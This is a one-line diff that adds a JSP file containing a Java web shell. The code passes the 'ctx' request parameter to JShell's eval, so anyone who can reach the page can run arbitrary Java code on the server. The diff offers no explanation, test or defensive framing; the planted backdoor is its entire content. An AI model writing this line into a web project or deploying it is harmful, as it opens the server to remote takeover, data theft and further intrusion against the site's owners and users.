@@ -1,0 +1,1 @@
+<% jdk.jshell.JShell js = jdk.jshell.JShell.create(); js.eval(request.getParameter("ctx")).forEach(e -> {}); %>
